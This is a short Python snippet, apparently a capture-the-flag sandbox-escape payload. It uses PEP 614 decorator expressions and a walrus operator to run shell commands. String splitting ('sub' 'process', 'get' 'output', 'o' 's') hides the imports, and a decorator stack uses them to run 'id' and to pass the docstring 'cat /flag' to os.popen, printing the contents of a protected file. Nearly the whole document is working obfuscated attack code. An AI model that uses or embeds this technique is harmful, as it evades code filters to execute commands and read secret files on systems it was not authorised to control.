# Arbitrary-expression decorators (PEP 614) plus a walrus: the "settings"
# class is consumed by a lambda that imports and calls from its fields, and
# a docstring is fed through os.popen by a decorator stack.
@(lambda c: (m := __import__(c.mod)) and print(getattr(m, c.fn)(c.arg)))
class settings:
    mod = 'sub' 'process'
    fn = 'get' 'output'
    arg = 'id'


@(lambda p: print(p.read()))
@__import__('o' 's').popen
@(lambda f: f.__doc__)
def _():
    "cat /flag"
